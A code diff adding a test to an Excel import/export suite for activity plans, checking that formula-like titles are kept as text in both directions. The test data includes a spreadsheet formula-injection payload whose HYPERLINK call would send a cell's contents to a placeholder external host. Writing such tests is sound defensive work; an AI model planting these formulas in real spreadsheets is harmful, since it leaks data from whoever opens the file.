@@ -60,6 +60,24 @@ class RoundTripTests(ExcelTestCase):
         self.assertEqual(plan.title, self.plan.title)
         self.assertEqual(excel.plan_rows(plan), before)
 
+    def test_a_title_that_looks_like_a_formula_stays_text_both_ways(self):
+        formula = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
+        Activity.objects.filter(pk=self.training.pk).update(title=formula)
+        Plan.objects.filter(pk=self.plan.pk).update(title="+SUM(1,2)")
+        self.plan.refresh_from_db()
+        book = self.exported()
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
+        self.assertIn(formula, [c.value for c in cells])
+        before = excel.plan_rows(self.plan)
+        Plan.objects.all().delete()
+        result = self.read(book)
+        self.assertTrue(result.ok, [str(p) for p in result.problems])
+        [plan] = apply_import(
+            actor=self.admin, province=self.surat, fiscal_year=2564, result=result
+        )
+        self.assertEqual(excel.plan_rows(plan), before)
+
     def test_importing_the_unchanged_export_changes_nothing(self):
         from moralprovince.audit.models import AuditEntry
 
